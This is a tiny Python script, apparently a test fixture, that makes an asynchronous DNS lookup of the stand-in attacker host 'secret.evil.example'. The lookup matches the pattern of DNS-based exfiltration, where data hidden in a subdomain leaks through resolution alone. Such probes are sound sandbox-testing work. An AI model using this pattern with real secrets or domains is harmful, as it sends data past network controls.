import asyncio
async def m():
    await asyncio.get_running_loop().getaddrinfo("secret.evil.example", 80)
asyncio.run(m())
